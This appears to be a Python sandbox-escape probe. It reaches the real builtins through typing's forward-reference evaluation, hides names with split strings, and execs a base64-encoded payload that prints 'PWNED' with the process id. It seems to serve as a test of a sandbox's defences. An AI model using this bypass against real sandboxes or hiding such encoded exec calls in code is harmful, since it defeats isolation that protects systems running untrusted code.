# eval: a base64 payload to enum.bltns.exec from the program's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import base64
p = base64.b64decode(b"cHJpbnQoJ1BXTicgKyAnRUQnLCBfX2ltcG9ydF9fKCdvcycpLmdldHBpZCgpKQ==")
try:
    rb["exec"](p)
except Exception as e:
    print("refused:", type(e).__name__, e)
